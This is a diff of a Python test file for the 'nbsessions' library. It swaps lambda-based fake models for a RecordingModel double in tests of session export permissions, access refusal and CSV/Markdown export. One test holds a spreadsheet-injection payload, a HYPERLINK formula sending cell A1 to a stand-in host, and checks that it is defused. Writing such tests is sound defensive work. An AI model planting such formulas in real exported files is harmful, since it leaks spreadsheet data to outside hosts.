@@ -9,8 +9,9 @@ import os
 import stat
 
 import pytest
+from conftest import RecordingModel
 
-from nbsessions import Agent, FunctionModel, ModelError, SessionAccessError, TinyDb
+from nbsessions import Agent, ModelError, SessionAccessError, TinyDb
 from nbsessions.__main__ import main
 from nbsessions.explore import batch, compare, contains, export_result, export_session, is_json
 from nbsessions.llm import OpenAIChat
@@ -74,7 +75,7 @@ def usual_umask():
 def test_every_export_file_is_created_readable_by_its_owner_only(session_db, tmp_path, usual_umask):
     agent, sid = session_db
     export_session(agent, sid, "md", tmp_path / "api.md")
-    result = batch(Agent(model=FunctionModel(lambda m: "ok")), "q {n}", [{"n": 1}], progress=False)
+    result = batch(Agent(model=RecordingModel("ok")), "q {n}", [{"n": 1}], progress=False)
     export_result(result, "csv", tmp_path / "batch.csv")
     existing = tmp_path / "was-public.json"
     existing.write_text("old")
@@ -95,7 +96,7 @@ def test_a_session_exports_straight_from_a_store_too(session_db):
 
 def test_exporting_another_users_session_is_refused(tmp_path):
     db = TinyDb(tmp_path / "users.json")
-    alice = Agent(model=FunctionModel(lambda m: "hi"), db=db, user_id="alice")
+    alice = Agent(model=RecordingModel("hi"), db=db, user_id="alice")
     sid = alice.run("hello").session_id
     with pytest.raises(SessionAccessError):
         export_session(Agent(db=db, user_id="bob"), sid, "md")
@@ -103,7 +104,7 @@ def test_exporting_another_users_session_is_refused(tmp_path):
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused():
-    agent = Agent(model=FunctionModel(lambda m: '=HYPERLINK("http://x.example/?"&A1,"click")'))
+    agent = Agent(model=RecordingModel('=HYPERLINK("http://x.example/?"&A1,"click")'))
     result = batch(agent, "{q}", [{"q": "@SUM(A1)"}], progress=False)
     row = read_csv(export_result(result, "csv"))[0]
     assert row["content"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" and row["q"] == "'@SUM(A1)"
@@ -111,8 +112,8 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused():
 
 
 def test_a_comparison_exports_one_record_per_cell_with_its_checks():
-    agent = Agent(model=FunctionModel(lambda m: "{}", id="json-bot"))
-    result = compare(agent, "Give JSON", models=[agent.model, FunctionModel(lambda m: "no", id="prose-bot")],
+    agent = Agent(model=RecordingModel("{}", id="json-bot"))
+    result = compare(agent, "Give JSON", models=[agent.model, RecordingModel("no", id="prose-bot")],
                      checks=[is_json])
     rows = read_csv(export_result(result, "csv"))
     assert [(r["model"], r["status"], r["check:is_json"], r["passed"]) for r in rows] == [
@@ -127,7 +128,7 @@ def test_a_comparison_exports_one_record_per_cell_with_its_checks():
 
 def test_a_batch_exports_in_input_order_and_model_text_stays_as_written_in_markdown(tmp_path):
     reply = "Use `<script>` tags | carefully"
-    agent = Agent(model=FunctionModel(lambda m: reply))
+    agent = Agent(model=RecordingModel(reply))
     result = batch(agent, "Row {n}: ```{n}```", [{"n": 0}, {"n": 1}], checks=[contains("script")], progress=False)
     md = export_result(result, "md", tmp_path / "batch.md")
     assert (tmp_path / "batch.md").read_text(encoding="utf-8") == md
@@ -140,7 +141,7 @@ def test_a_batch_exports_in_input_order_and_model_text_stays_as_written_in_markd
 
 
 def test_unknown_formats_and_objects_are_refused():
-    result = batch(Agent(model=FunctionModel(lambda m: "x")), "{n}", [{"n": 1}], progress=False)
+    result = batch(Agent(model=RecordingModel("x")), "{n}", [{"n": 1}], progress=False)
     with pytest.raises(ValueError, match="use md, json or csv"):
         export_result(result, "xlsx")
     with pytest.raises(TypeError, match="Comparison or a BatchResult"):
